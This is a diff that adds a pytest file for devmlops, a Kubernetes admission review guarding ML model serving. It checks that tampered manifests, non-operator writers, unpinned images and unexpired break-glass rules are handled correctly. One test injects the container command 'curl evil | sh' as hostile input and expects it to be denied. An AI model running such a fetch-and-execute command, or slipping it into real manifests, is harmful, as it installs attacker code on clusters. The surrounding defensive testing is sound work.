@@ -1,0 +1,408 @@
+"""The no-bypass review, pure: rendered children pass it; any single change of one fails; Pods, workloads, scale,
+exec and the KServe kinds in enforced namespaces."""
+
+from __future__ import annotations
+
+import copy
+import datetime as dt
+from collections.abc import Iterator
+from typing import Any
+
+import pytest
+
+from devmlops.core.evidence import Chain, Evidence, Identities
+from devmlops.core.exemptions import compile_break_glass, compile_exemption
+from devmlops.core.model import Decision, GateResult
+from devmlops.core.plan import VerificationPlan
+from devmlops.core.policy import Authority
+from devmlops.core.render import render_children
+from devmlops.core.review import AdmissionRequest, GroupVersionKind
+from devmlops.core.workloads import review_serving
+from tests.unit.core.fakes import DIGEST
+
+IDS = Identities()
+NOW = dt.datetime(2026, 11, 30, tzinfo=dt.UTC)
+PINNED = "registry.local/server@sha256:" + "1" * 64
+PLAN = VerificationPlan("bundle", DIGEST, ((1, (Authority(name="release", kind="key", public_key="PEM"),)),)).to_json()
+PASSING = Decision((GateResult(gate="signature", outcome="pass", reason="verified"),))
+FAILING = Decision((GateResult(gate="signature", outcome="fail", reason="key revoked"),))
+ENFORCED = {"devmlops.io/enforce": "true"}
+
+
+def model(kind: str = "kserve") -> dict[str, Any]:
+    runtime: dict[str, Any] = {"kind": kind, "replicas": 2}
+    if kind == "triton":
+        runtime["image"] = PINNED
+    return {
+        "apiVersion": "devmlops.io/v1alpha1",
+        "kind": "ModelDeployment",
+        "metadata": {"name": "fraud", "namespace": "ml", "uid": "md-uid"},
+        "spec": {"model": {"name": "fraud", "uri": "s3://models/fraud", "digest": DIGEST}, "runtime": runtime},
+    }
+
+
+def request(
+    obj: dict[str, Any] | None,
+    *,
+    resource: str,
+    user: str = IDS.operator,
+    operation: str = "CREATE",
+    old: dict[str, Any] | None = None,
+    sub: str = "",
+    kind: str = "",
+) -> AdmissionRequest:
+    return AdmissionRequest(
+        uid="u",
+        kind=GroupVersionKind("", "v1", kind or str((obj or {}).get("kind") or "Pod")),
+        operation=operation,  # type: ignore[arg-type]
+        namespace="ml",
+        name=str(((obj or {}).get("metadata") or {}).get("name") or "x"),
+        username=user,
+        groups=(),
+        object=obj,
+        old_object=old,
+        sub_resource=sub,
+        resource=resource,
+    )
+
+
+def evidence(*, chain: Chain | None = None, labels: dict[str, str] | None = None, **more: Any) -> Evidence:
+    return Evidence(namespace_labels=labels or {}, chain=chain, identities=IDS, verifier_image="devmlops@v1", **more)
+
+
+def chain_of(md: dict[str, Any], *hops: dict[str, Any], decision: Decision = PASSING, **more: Any) -> Chain:
+    return Chain(hops=hops, model=md, decision=decision, plan_json=PLAN, **more)
+
+
+def rendered(kind: str = "kserve") -> dict[str, Any]:
+    return render_children(model(kind), plan_json=PLAN, verifier_image="devmlops@v1")[0]
+
+
+def leaves(value: Any, path: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
+    if isinstance(value, dict):
+        for key, item in value.items():
+            yield from leaves(item, (*path, key))
+    elif isinstance(value, list):
+        for index, item in enumerate(value):
+            yield from leaves(item, (*path, index))
+    else:
+        yield path
+
+
+def changed(obj: dict[str, Any], path: tuple[Any, ...]) -> dict[str, Any]:
+    copied = copy.deepcopy(obj)
+    node = copied
+    for key in path[:-1]:
+        node = node[key]
+    value = node[path[-1]]
+    node[path[-1]] = (not value) if isinstance(value, bool) else (value + 1 if isinstance(value, int) else f"{value}x")
+    return copied
+
+
+@pytest.mark.parametrize("kind", ["kserve", "triton"])
+def test_every_rendered_child_passes_the_review_when_the_operator_writes_it(kind: str) -> None:
+    child = rendered(kind)
+    decision = review_serving(
+        request(child, resource="inferenceservices" if kind == "kserve" else "deployments"),
+        evidence(chain=chain_of(model(kind))),
+        now=NOW,
+    )
+    assert decision.allowed, decision.message
+
+
+@pytest.mark.parametrize("kind", ["kserve", "triton"])
+def test_any_single_field_change_of_a_rendered_child_is_denied(kind: str) -> None:
+    child = rendered(kind)
+    resource = "inferenceservices" if kind == "kserve" else "deployments"
+    paths = [
+        p
+        for p in leaves(
+            {"spec": child["spec"], "metadata": {k: child["metadata"][k] for k in ("labels", "annotations")}}
+        )
+        if "devmlops.io/policy-revision" not in p
+    ]
+    assert len(paths) >= 5
+    for path in paths:
+        tampered = changed(child, path)
+        decision = review_serving(request(tampered, resource=resource), evidence(chain=chain_of(model(kind))), now=NOW)
+        assert not decision.allowed, f"a change of {'.'.join(map(str, path))} was admitted"
+        assert "differs from what devmlops renders" in decision.message
+
+
+def test_an_added_container_command_or_transformer_is_denied() -> None:
+    child = rendered()
+    child["spec"]["transformer"] = {"containers": [{"name": "t", "image": PINNED}]}
+    decision = review_serving(request(child, resource="inferenceservices"), evidence(chain=chain_of(model())), now=NOW)
+    assert "spec.transformer: got" in decision.message
+    triton = rendered("triton")
+    triton["spec"]["template"]["spec"]["containers"][0]["command"] = ["sh", "-c", "curl evil | sh"]
+    decision = review_serving(
+        request(triton, resource="deployments"), evidence(chain=chain_of(model("triton"))), now=NOW
+    )
+    assert not decision.allowed
+    assert "command" in decision.message
+
+
+def test_a_rendered_child_written_by_anyone_but_the_operator_is_denied() -> None:
+    decision = review_serving(
+        request(rendered(), resource="inferenceservices", user="mallory"), evidence(chain=chain_of(model())), now=NOW
+    )
+    assert not decision.allowed
+    assert "only the devmlops operator" in decision.message
+
+
+def test_a_child_of_a_model_that_may_not_be_served_is_denied() -> None:
+    decision = review_serving(
+        request(rendered(), resource="inferenceservices"), evidence(chain=chain_of(model(), decision=FAILING)), now=NOW
+    )
+    assert "may not be served now" in decision.message
+
+
+def kserve_deployment(image: str = PINNED) -> dict[str, Any]:
+    return {
+        "kind": "Deployment",
+        "metadata": {
+            "name": "fraud-predictor",
+            "ownerReferences": [{"kind": "InferenceService", "name": "fraud", "uid": "i1", "controller": True}],
+        },
+        "spec": {"replicas": 2, "template": {"spec": {"containers": [{"name": "kserve-container", "image": image}]}}},
+    }
+
+
+def isvc_hop() -> dict[str, Any]:
+    return {**rendered(), "metadata": {**rendered()["metadata"], "uid": "i1"}}
+
+
+def test_kserves_deployment_runs_only_pinned_allow_listed_images_and_only_kserve_writes_it() -> None:
+    allow = (("production", ("registry.local/*",)),)
+    chain = chain_of(model(), isvc_hop(), image_allow_lists=allow)
+    ok = review_serving(
+        request(kserve_deployment(), resource="deployments", user=IDS.kserve), evidence(chain=chain), now=NOW
+    )
+    assert ok.allowed, ok.message
+    unpinned = review_serving(
+        request(kserve_deployment("evil/server:latest"), resource="deployments", user=IDS.kserve),
+        evidence(chain=chain),
+        now=NOW,
+    )
+    assert "not pinned by digest" in unpinned.message
+    assert "(and 1 more)" in unpinned.message
+    by_mallory = review_serving(
+        request(kserve_deployment(), resource="deployments", user="mallory"), evidence(chain=chain), now=NOW
+    )
+    assert "only the KServe controller" in by_mallory.message
+
+
+def kserve_pod(
+    *, image: str = "devmlops@v1", plan: str = PLAN, uri: str = "devmlops+s3://models/fraud"
+) -> dict[str, Any]:
+    return {
+        "kind": "Pod",
+        "metadata": {
+            "name": "fraud-predictor-abc",
+            "annotations": {"devmlops.io/verification": plan},
+            "ownerReferences": [{"kind": "ReplicaSet", "name": "rs", "uid": "r1", "controller": True}],
+        },
+        "spec": {
+            "initContainers": [{"name": "storage-initializer", "image": image, "args": [uri, "/mnt/models"]}],
+            "containers": [{"name": "kserve-container", "image": PINNED}],
+        },
+    }
+
+
+def kserve_pod_chain() -> Chain:
+    deployment = kserve_deployment()
+    replica_set = {
+        "kind": "ReplicaSet",
+        "metadata": {"name": "rs"},
+        "spec": {"template": deployment["spec"]["template"]},
+    }
+    return chain_of(model(), replica_set, deployment, isvc_hop())
+
+
+def test_a_kserve_pod_passes_only_with_devmlops_storage_initializer_and_the_derived_plan() -> None:
+    enforced = dict(labels=ENFORCED)
+    controller = IDS.controllers[1]
+    ok = review_serving(
+        request(kserve_pod(), resource="pods", user=controller), evidence(chain=kserve_pod_chain(), **enforced), now=NOW
+    )
+    assert ok.allowed, ok.message
+    other_plan = VerificationPlan("other bundle", DIGEST, VerificationPlan.from_json(PLAN).groups).to_json()
+    for pod, expected in (
+        (kserve_pod(image="kserve/storage-initializer:v0.16"), "another ClusterStorageContainer"),
+        (kserve_pod(plan=other_plan), "not the plan devmlops derives"),
+        (kserve_pod(uri="s3://models/fraud"), "storage-initializer args"),
+    ):
+        decision = review_serving(
+            request(pod, resource="pods", user=controller), evidence(chain=kserve_pod_chain(), **enforced), now=NOW
+        )
+        assert not decision.allowed
+        assert expected in decision.message
+    mallory = review_serving(
+        request(kserve_pod(), resource="pods", user="mallory"), evidence(chain=kserve_pod_chain(), **enforced), now=NOW
+    )
+    assert "only the cluster's workload controllers" in mallory.message
+
+
+EXEMPTION = compile_exemption(
+    {
+        "metadata": {"name": "batch"},
+        "spec": {"namespaces": ["ml"], "images": [PINNED], "serviceAccounts": ["etl"], "reason": "nightly ETL"},
+    }
+)
+
+
+def pod(*images: str, account: str = "etl") -> dict[str, Any]:
+    containers = [{"name": f"c{i}", "image": image} for i, image in enumerate(images)]
+    return {"kind": "Pod", "metadata": {"name": "p"}, "spec": {"serviceAccountName": account, "containers": containers}}
+
+
+def test_in_an_enforced_namespace_a_pod_runs_only_when_an_exemption_covers_every_image_and_its_account() -> None:
+    def decide(obj: dict[str, Any], **more: Any) -> Decision:
+        return review_serving(request(obj, resource="pods", user="mallory"), evidence(labels=ENFORCED, **more), now=NOW)
+
+    assert decide(pod(PINNED), exemptions=(EXEMPTION,)).allowed
+    assert "no ClusterWorkloadExemption covers" in decide(pod(PINNED)).message
+    assert "not one of batch's images" in decide(pod(PINNED, "busybox"), exemptions=(EXEMPTION,)).message
+    assert "service account 'default'" in decide(pod(PINNED, account=""), exemptions=(EXEMPTION,)).message
+    outside = review_serving(request(pod("anything"), resource="pods", user="mallory"), evidence(), now=NOW)
+    assert outside.allowed  # not under enforcement
+
+
+def test_a_workload_in_an_enforced_namespace_is_judged_on_its_pod_template() -> None:
+    job = {"kind": "CronJob", "metadata": {"name": "j"}, "spec": {"jobTemplate": {"spec": {"template": pod(PINNED)}}}}
+    assert review_serving(
+        request(job, resource="cronjobs", user="mallory"), evidence(labels=ENFORCED, exemptions=(EXEMPTION,)), now=NOW
+    ).allowed
+    job["spec"]["jobTemplate"]["spec"]["template"]["spec"]["containers"][0]["image"] = "evil"
+    assert not review_serving(
+        request(job, resource="cronjobs", user="mallory"), evidence(labels=ENFORCED, exemptions=(EXEMPTION,)), now=NOW
+    ).allowed
+
+
+def test_exec_attach_and_ephemeral_containers_need_an_unexpired_break_glass() -> None:
+    glass = compile_break_glass(
+        {
+            "metadata": {"name": "incident-7"},
+            "spec": {"namespaces": ["ml"], "users": ["oncall"], "expires": "2026-12-01T00:00:00Z", "reason": "INC-7"},
+        }
+    )
+
+    def decide(user: str, now: dt.datetime, sub: str = "exec") -> Decision:
+        req = request(None, resource="pods", user=user, operation="CONNECT", sub=sub, kind="PodExecOptions")
+        return review_serving(req, evidence(labels=ENFORCED, break_glass=(glass,)), now=now)
+
+    assert decide("oncall", NOW).allowed
+    assert decide("oncall", NOW).results[0].gate == "breakglass"
+    assert not decide("mallory", NOW).allowed
+    assert not decide("oncall", NOW + dt.timedelta(days=2)).allowed
+    assert not decide("mallory", NOW, "ephemeralcontainers").allowed
+
+
+def scale(old: int, new: int) -> tuple[dict[str, Any], dict[str, Any]]:
+    return (
+        {"kind": "Scale", "metadata": {"name": "fraud"}, "spec": {"replicas": new}},
+        {"kind": "Scale", "metadata": {"name": "fraud"}, "spec": {"replicas": old}},
+    )
+
+
+def test_scaling_down_is_always_allowed_and_scaling_up_needs_a_model_that_may_be_served() -> None:
+    new, old = scale(1, 0)
+    down = request(new, resource="deployments", user="mallory", operation="UPDATE", old=old, sub="scale")
+    assert review_serving(down, evidence(labels=ENFORCED), now=NOW).allowed
+    new, old = scale(0, 3)
+    up = request(new, resource="deployments", user="mallory", operation="UPDATE", old=old, sub="scale")
+    target = rendered("triton")
+    assert review_serving(
+        up, evidence(labels=ENFORCED, scaled=target, chain=chain_of(model("triton"))), now=NOW
+    ).allowed
+    refused = review_serving(
+        up, evidence(labels=ENFORCED, scaled=target, chain=chain_of(model("triton"), decision=FAILING)), now=NOW
+    )
+    assert "may not be served now" in refused.message
+
+
+def test_kserve_kinds_devmlops_never_renders_are_denied_and_runtimes_must_be_pinned_and_allow_listed() -> None:
+    trained = {"kind": "TrainedModel", "metadata": {"name": "t"}, "spec": {"model": {"storageUri": "s3://x"}}}
+    assert (
+        "TrainedModel loads model bytes"
+        in review_serving(request(trained, resource="trainedmodels", user="mallory"), evidence(), now=NOW).message
+    )
+    runtime = {
+        "kind": "ServingRuntime",
+        "metadata": {"name": "r"},
+        "spec": {"containers": [{"name": "s", "image": PINNED}]},
+    }
+    allow = (("production", ("registry.local/*",)),)
+    assert review_serving(
+        request(runtime, resource="servingruntimes", user="mallory"), evidence(image_allow_lists=allow), now=NOW
+    ).allowed
+    assert (
+        "allow-lists images"
+        in review_serving(request(runtime, resource="servingruntimes", user="mallory"), evidence(), now=NOW).message
+    )
+    runtime["spec"]["containers"][0]["image"] = "evil/server:latest"
+    assert (
+        "not pinned"
+        in review_serving(
+            request(runtime, resource="servingruntimes", user="mallory"), evidence(image_allow_lists=allow), now=NOW
+        ).message
+    )
+
+
+def test_an_exempt_pod_may_not_wear_the_labels_that_route_a_model_servers_traffic() -> None:
+    def decide(labels: dict[str, str], **more: Any) -> Decision:
+        worn = {**pod(PINNED), "metadata": {"name": "p", "labels": labels}}
+        return review_serving(
+            request(worn, resource="pods", user="mallory", **more),
+            evidence(labels=ENFORCED, exemptions=(EXEMPTION,)),
+            now=NOW,
+        )
+
+    assert decide({"team": "etl"}).allowed
+    for labels in ({"devmlops.io/model-deployment": "fraud"}, {"app": "isvc.fraud-predictor"}):
+        assert "would route a model server's traffic" in decide(labels).message
+    plain = {**pod(PINNED), "metadata": {"name": "p", "labels": {}}}
+    relabelled = decide({"serving.kserve.io/inferenceservice": "fraud"}, operation="UPDATE", old=plain)
+    assert not relabelled.allowed
+
+
+def test_an_update_that_only_drops_owners_passes_and_one_that_adds_an_owner_is_reviewed() -> None:
+    owned = {**pod(PINNED), "metadata": {"name": "p", "ownerReferences": [{"kind": "ReplicaSet", "uid": "r"}]}}
+    orphaned = {**owned, "metadata": {"name": "p"}}
+    assert review_serving(
+        request(orphaned, resource="pods", user="gc", operation="UPDATE", old=owned), evidence(labels=ENFORCED), now=NOW
+    ).allowed
+    claimed = review_serving(
+        request(owned, resource="pods", user="mallory", operation="UPDATE", old=orphaned),
+        evidence(labels=ENFORCED),
+        now=NOW,
+    )
+    assert not claimed.allowed
+
+
+def test_the_triton_service_is_a_child_compared_with_its_rendering() -> None:
+    service = render_children(model("triton"), plan_json=PLAN, verifier_image="devmlops@v1")[1]
+    chain = chain_of(model("triton"))
+    assert review_serving(request(service, resource="services"), evidence(chain=chain), now=NOW).allowed
+    repointed = copy.deepcopy(service)
+    repointed["spec"]["selector"] = {"app": "mallorys-pods"}
+    decision = review_serving(request(repointed, resource="services"), evidence(chain=chain), now=NOW)
+    assert "spec.selector" in decision.message
+    by_mallory = review_serving(request(service, resource="services", user="mallory"), evidence(chain=chain), now=NOW)
+    assert "only the devmlops operator" in by_mallory.message
+
+
+def test_a_namespaced_serving_runtime_is_refused_in_an_enforced_namespace() -> None:
+    runtime = {
+        "kind": "ServingRuntime",
+        "metadata": {"name": "r"},
+        "spec": {"containers": [{"name": "s", "image": PINNED}]},
+    }
+    allow = (("production", ("registry.local/*",)),)
+    decision = review_serving(
+        request(runtime, resource="servingruntimes", user="mallory"),
+        evidence(labels=ENFORCED, image_allow_lists=allow),
+        now=NOW,
+    )
+    assert "could shadow the ClusterServingRuntime" in decision.message
